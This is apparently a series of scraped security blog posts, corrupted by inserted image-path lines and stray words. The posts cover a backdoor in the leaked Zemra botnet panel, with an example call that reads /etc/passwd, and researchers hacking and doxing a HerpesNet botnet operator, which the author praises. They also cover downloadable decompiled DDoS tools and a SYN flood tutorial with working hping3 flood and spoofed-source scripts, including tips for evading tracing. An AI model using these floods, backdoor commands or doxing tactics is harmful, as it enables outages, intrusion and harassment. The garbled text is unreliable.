Zemra DDoS Bot: Backdoors in your Backdoors!

So, ailment today I grabbed a sample of the leaked “Zemra” botnet source code, and quickly did a “10 second analysis” of the webpanels source code. I often do this to see can I locate any “GLARING SECURITY FLAWS” in the C&C. I am also working on finding a google-dork to find Zemra installations.

For information about Zemra the following links are useful :)



So. This was on sale in various places online (Russian forums apparently), here however I suspect (based on the backdoor and the fact it is written in C#) that is is German in origin. Some of the stuff in there seems to be German also, illness so I assume it is another product of the German Skid Scene. Basically “Rippers Inc”. LAME!

Anyway, I was looking at the webpanels source (I will eventually rip the bots source apart) andnoticed that gate.php has some lulzy SQLi (possibly).

Far more interesting was the backdoor. Located at /Zemra/Panel/Zemra/system/command.php, it is your basic “BACKDOOR”. It takes the GET parameter “cmd” and executes it.

Example: localhost/Zemra/Panel/Zemra/system/command.php?cmd=cat /etc/passwd

I will be researching this in greater depth… Sometime in the near-ish future. But as always, there be backdoors in your backdoors!

Finally: Zemra.rar file is here: Zemra

Malware.lu vs Herpesnet Botnet

Recently, a group of malware researchers, at Malware.lu – have seemingly taken the fight back against botnets another step.

Now, first off, let’s get my position on this straight for those watching me who are just waiting for me to break some kind of law or ethical barrier: While I wholeheartedly support these researchers actions, and believe that their approach to “dealing with botmasters” is the way forward, I will NOT be participating in it without cooperation of some sort from Law Enforcement, or legal permission to do so. The ice under my feet is too fucking thin to go popping C&C servers, though I wish I could.

The reason why we should take the fight back to the botnet masters is simple: They have the upper hand here. We do not. They can simply keep changing their C&C servers, keep doing DNS switcharoos, and keep spreading their malware, targeting innocent bystanders and making off with reams ofpersonal data, while us researchers can do shag all except report to the authorities and pray to god they do something. It is not until someone like Microsoft gets involved that shit ACTUALLY gets done.

If the relevant authorities would issue “carte blanche”, or even a “carte gris” to take down botnets if the opportunity arises, the internet would be a far safer place. Until PROACTIVE measures are taken to make the cost of operating and owning these things too damn high for the amateurs, the smaller botnets will proliferate undetected for infinite time.

Anyways, on to the story.

So, the guys at malware.lu (I believe it was r00tBSD) got a sample in, of the HerpesNet botnet. I had been investigating Herpesnet for a while, after seeing it offered up as a “botnet as a service” type thing. You simply infect people, the botmaster/owner handles the C&C and backend server, along with writing the malware.

Fascinating system, and it is criminal economies like these that need to be stamped out. This particular sample was proliferating on Skript Kiddieforums predominantly, however, it is simply showing how *Fast* this kind of service offering has become common place.

Upon analysing the unpacked (non obfusticated) binary, and decrypting the few strings that were obscured, they were able to locate its C&C server.

They were also able to uncover what it sent to the server in HTTP POST requests, which seemingly, was sent in plaintext, and therefore offered them insights into what kind of data this thing was stealing, etc.

The researchers then decided to see could they perhaps use SQL injection attacks to own the command and control server, and in the end, they succeeded, gaining access to the administrator (botmasters) account on the C&C.

Taking things further, they actually uploaded a Meterpreter payload to the server and ran it, remotely hijacking the C&C. They took a screenshot of the C&C through the Meterpreter shell, and it LOOKS to me like it was the malware authors own box they had owned.

Pretty stupid, hosting a multi user botnet on your own box… But… Criminals are rarely the most intelligent it seems.Now for the REALLY fun part: They then dumped the bots source code, etc. onto their box for more analysis, and subsequently the botmaster severed the box’s internet connection.

Not only this… They doxed the botmaster! Revealing his true identity for all to see (and for all to arrest…).

This kind of thing could be seen by some as vigilante justice, however, I see it as the future of the fight back against crimeware and online fraud. Even xylitol seems to get away with this, so my question to you all is as follows: What is the ethics/legality to this? CAN I legally start “assisting” LEO by dropping botnets and doxing their owners? I am FAIRLY sure I would be breaking anti-hacking laws, but, I also know the law pretty much requires me to do my duty as a citizen to PREVENT crime.

While Iwon’t be popping botnet C&C servers anytime soon, it is an interesting question to ask… And one I would love to know the answer to.

For more on this story, check out the article the guys wrote here:
Herpesnet Analysis and Ownage – Malware.lu

And also check outtheir main site: http://malware.lu

Massive props to the Malware.lu team, they are REAL internet superheros!

More Decompile – Nuclear DDoSer

Seeing as it is the weekend, and I had promised this, here goes nothing… Yesterday you saw my decompile of the lame HTTP Flooder – see HERE – and today, I have decompiled Nuclear DDoSer.

I previously wrote about “Nuclear DDoSer” HERE , comparing it to the SlowLoris and Slowpost tools.

This thing, as a point of interest, operates in a similar way to how I theorize “XerXes” works, and with some modification and improvement could actually do a considerable amount of damage.

SO I will not be bothering making those improvements.

Go get it here…

MD5: c8248c60b438fe544c7dfdd847f53692
SHA1: c3757099dead3a3f7656c33a49072a8126174929

AS always, we decompile and release this stuff so you don’t have to, for purely educational purposes, and to satisfy our sense of schadenfreud toward the skidiots out there. “We do not like them very much”.

Decompiled Skidware – HTTP Flooder by “van1lle”.

Howdy all, see well, another GREAT day here at the labs! Sun is shining, boxes are overheating, sickness and most everyone is a little bit hungover at least…

Well, I decided to harvest a bunch of what I refer to as “Skidware” for decompilation purposes (practicing my .net fu) and decided to release this one first.

It is the source (and original binary) of a rather popular HTTP Flooding DoS tool, distributed on skript kiddie forums.

It is basically an app in C# that just spews “slowloris” at a server until it dies… Standard Layer 7 Denial of Service stuff. The original author bragged that he/she/it took down Virustotal using it.

So, here it is :D

MD5: 18a31dce229b2734eabdb207e2296a68
SHA-1:04f70f94b91ade15ab2f1d968c152ef1e900a41b

We do not take responsibility for what you do with this.

Layer 4 Denial of Service: SYN/Spoofed SYN Flooding

Layer 4 Denial of Service: SYN/Spoofed SYN Flooding.

Denial of Service attacks are still among the most prevalent online attacks. At first they were seen as a way for IRC users to settle disputes (ok, I put that FAR too nicely. Really a way for pissed off people to piss off other people on IRC…), and eventually they ended up being used for extortion (gief money or we blast ur site offa the internetz!!). However, these days it is not too uncommon to see DoS/DDoS attacks being used either by unscrupulous businesspeople to take out their competitors, or, in recent years, as the primary weapon of hacktivists – for example the“Anonymous” group.

In this, I intend to briefly cover the topic of SYN/Spoofed SYN (and, of course, simple connect()) flooding. Later I will cover UDP flooding and “evil TCP Packets”, etc. The diagrams are courtesy of Encyclopedia Dramatica and Wikipedia, as I saw no real reason to draw my own, what with decent ones already in existence.

Please note, this article assumes you understand the basics of TCP (3 way handshake, flags), however, I will cover those in a later article.

The SYN Flood.
The common, or garden, SYN flood effectively functions by sending many “SYN”, or “Hello” packets to the victim server. What happens then, is the server sends back SYN-ACK packets, and awaits the sender to reply with an ACK, opening a new full-connection. In a SYN flood, you do not reply with an ACK, instead just vomiting more SYN packets at the server, causing its state-table of pending connections to fill up. If you succeed in filling it up, the server cannot accept legitimate connections, causing a denial of service to legitimate clients.

SYN flooding from Encyclopedia Dramatica

Good ole SYN flood... Exhausting the sockets

In some cases the server may have “SYN Cookies” enabled, which migitates this effect. (I will write about these in another article.) In this case, the SYN flood MAY STILL SUCCEED, by simply blasting the server with somuch data that it’s bandwidth is exceeded. This is as simple as basic physics – the guy with the bigger pipe wins.

Often scrubs and lamers attempt to SYN flood large servers with their home connection, occasionally they succeed (if the server is not implementing SYN cookies or other mitigation). However, if they must rely on pure bandwidth, they are destined to fail. Epically. This results in both embarrassment, and, in either case, a knock on the door from men in suits who are NOT the mailman :P

For this reason, most people use a botnet to SYN flood. More on this in later article on botnet powered DDoS, and why most botnets do not ACTUALLY SYN flood.

The following BASH script demonstrates a simple SYN flood using HPING3

== SNIP ==

#flood.sh – SYN Flood Demo Script
echo “Launching SYN Flood against $1″
hping3 -S –flood -V $1

== SNIP ==

And here is an example of it being used to flood localhost for several seconds…

root@bt:~# ./flood localhost
Flooding localhost
using lo, addr:, MTU: 16436
HPING localhost (lo SPU set, 40 headers + 0 data bytes
hping in flood mode, no replies will be shown
— localhost hping statistic —
170179 packets tramitted, 0 packets received, 100% packet loss
round-trip min/avg/max = 0.0/0.0/0.0 ms

This was a mere 5 seconds of SYN flooding, and in theory, 170,179 connections would be“pending” on the target box. Likely a hell of a lot less – packet loss, etc, and the fact I was flooding myself, however, I am fairly sure most servers would die fairly fast if subjected to this kind of abuse from someone with a decent upspeed (1gb/s or so?).

Due to firewalls, SYN cookies, and such migitating against this, it would likely fail against most large targets who implement load balancing, etc. However, remember: An attacker can simply DoS your firewall or router… Effectively knocking you out anyway!

Oddly enough, the above also has a tendancy to turn off network capable Sony Bravia TV’s. Which are not renowned for having a hardened TCP stack.

TheSpoofed SYN Flood.
The main issue with “vanilla” SYN flooding is that every packet you send at the victim has your IP address stamped on it. Which is how the men in suits know where to come looking for you. Also, the fact of the matter is, their box is spamming packets back at you (and, due to how TCP/IP works, is spamming MORE packets back than you send at it – retransmissions for redundancy), making it not only easy to find you, but also kind of hozing your own connection as well. This is why I consider SYN flooding to be the equivalent of a kamikaze attack of sorts…

So, what do we do about this? Well, you can always spoof the IP address of the sender… Making it non traceable back to you (in theory – some ISP’s “fix” spoofed packets), and also making sure more of your pipe is free for the spamming.

Another point to note: Some DDoS migitation solutions block an IP that they detect is flooding it. Spoofed floods actually can get around some of these “solutions”.

The following BASH script demonstrates this quite well I think…== SNIP ==

# spoofed.sh – Spoofed SYN Flooding Demonstration Script
echo “Flooding $1 with randomly spoofed SYN packets”
hping3 -S -P -U –flood -V –rand-source $1

== SNIP ==

As you can see, we added the –rand-source operator to hping, making it randomize the packet-sources. This means that they (Theoretically) have no way of tracking us…

And here is an example of it being used to flood localhost for a few seconds…

root@bt:~# ./spoofed localhost
Flooding localhost with randomly spoofed SYN packets
using lo, addr:, MTU: 16436
HPING localhost (lo SPU set, 40 headers + 0 data bytes
hping in flood mode, no replies will be shown
— localhost hping statistic —
230989 packets tramitted, 0 packets received, 100% packet loss
round-trip min/avg/max = 0.0/0.0/0.0 ms

See? A literal shitload of “untraceable” packets have been sent to the target in about 5 seconds, now imagine if this was left running, from a high bandwidth server, for several hours? Or days even?Your mileage may vary with this – some providers DO “fix” or simply drop spoofed packets, however in a later article I will show you how to test does your provider allow spoofed packets. I just have to find the research some university in America did first… I know I have it saved, but, you know how these things are!

TCP Connect() Flooding.
Now before I get started, connect() flooding is fucking stupid. Seriously. It is inefficent, leaves MASSIVE amounts of logs (you establish a full connection), and generally… Yeah. Sadly, this is incredibly common – in fact – it is the default attack-mode of things like LOIC, etc. Essentially you just establish awhole bunch of connections to the victim server and hope to god you either exceed its connection-limit, or its bandwidth.

Again, horriblyinefficient, but that is just the start: It also is damn near GUARENTEED to get you a visit from the “Men in Black” – see the poor LOIC using scrubs who got caught – and it is just… Silly.

